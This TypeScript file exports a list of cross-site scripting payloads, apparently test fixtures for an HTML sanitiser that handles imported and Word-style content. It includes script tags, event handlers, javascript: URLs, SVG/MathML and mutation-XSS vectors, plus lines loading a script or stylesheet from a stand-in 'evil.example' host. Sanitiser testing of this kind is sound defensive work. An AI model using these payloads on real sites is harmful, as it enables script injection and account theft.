/** `alert(1)` and `window.__ran = 1` alike: each tries to run something where HTML from outside is taken. */
const run = "window.__ran=1";

/** Ways to smuggle a script through HTML, from the collections that pages are tested with: plain, encoded, nested, mutating and broken. */
export const attacks: readonly string[] = [
  // elements that run by themselves
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script\n>${run}</script\n>`, `<script type="module">${run}</script>`,
  // handlers
  `<img src=x onerror=${run}>`, `<img/src=x/onerror=${run}>`, `<img src="/file/1" onerror="${run}">`, `<img src=x onerror\n=${run}>`, `<img src="x\` \`<script>${run}</script>"\` \`>`, `<image src=x onerror=${run}>`, `<img srcset="x 1x" onerror=${run}>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<details open ontoggle=${run}>x</details>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>x</button>`,
  `<video autoplay onloadstart=${run}><source src=x onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<div onpointerenter=${run}>x</div>`, `<p onmouseover=${run} style=position:fixed;inset:0>x</p>`,
  `<p style="animation:x 1s" onanimationstart=${run}>x</p>`, `<a href=# onclick=${run}>x</a>`, `<dialog open onclose=${run}>x</dialog>`, `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>y</button>`, `<p contenteditable onbeforeinput=${run}>x</p>`,
  // addresses
  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="java\nscript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href="&#x6A;&#x61;vascript&colon;${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="javascript&Tab;:${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:x">x</a>`, `<a href="blob:null/1">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/\\evil.example">x</a>`, `<a href="https:evil">x</a>`, `<a ping="//evil.example" href="https://example.org">x</a>`, `<area href="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`, `<base href="javascript:/a/"><a href="x">y</a>`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<link rel=import href="data:text/html,x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<a data-bill-id="1" href="javascript:${run}">x</a>`, `<a xlink:href="javascript:${run}">x</a>`,
  // foreign elements
  `<svg onload=${run}></svg>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`, `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x><script>${run}</script></svg>#x"></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`, `<math href="javascript:${run}">x</math>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  // trees that change when they are read again
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<noembed><img title="</noembed><img src=x onerror=${run}>">`, `<textarea><p title="</textarea><img src=x onerror=${run}>">`, `<title><p title="</title><img src=x onerror=${run}>">`, `<style><p title="</style><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`, `<template shadowrootmode="open"><img src=x onerror=${run}></template>`, `<plaintext><img src=x onerror=${run}>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`, `<table><td background="javascript:${run}"><svg onload=${run}>`,
  `<!--><img src=x onerror=${run}>-->`, `<!--!> <img src=x onerror=${run}> --!>`, `<![CDATA[><img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><img src=x onerror=${run}>`, `<%<!--'%><script>${run}</script-->`, `</p onclick=${run}><img src=x onerror=${run}>`, `<p/onclick=${run}//>x`,
  // our own marks
  `<span data-bill-id="1" onclick="${run}">x</span>`, `<span data-bill-id="1&quot; onclick=&quot;${run}">x</span>`, `<span data-footnote=""><img src=x onerror=${run}><script>${run}</script>note</span>`, `<span data-footnote="&quot;><img src=x onerror=${run}>">x</span>`, `<ol type="&quot;><script>${run}</script>" start="javascript:1"><li>x</li></ol>`,
  `<td colspan="1e9">x</td>`, `<table><tr><td rowspan="-1" colspan="999999999">x</td></tr></table>`, `<img src="/file/1" alt="&quot; onerror=&quot;${run}">`, `<img src="/file/../../evil">`, `<h2 id="__proto__">x</h2>`, `<p style="background:url(javascript:${run})">x</p>`, `<p style="width:expression(${run})">x</p>`,
  // Word's own marks as a cover
  `<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·</span><img src=x onerror=${run}>x</p>`, `<!--[if gte mso 9]><script>${run}</script><![endif]--><p>x</p>`, `<![if !supportLists]><script>${run}</script><![endif]>x`, `<o:p onclick=${run}><script>${run}</script></o:p>`, `<p>a<a href="#_ftn1" name="_ftnref1">[1]</a></p><div id=ftn1><p><a href="#_ftnref1" name="_ftn1">[1]</a> <img src=x onerror=${run}><a href="javascript:${run}">n</a></p></div>`,
];
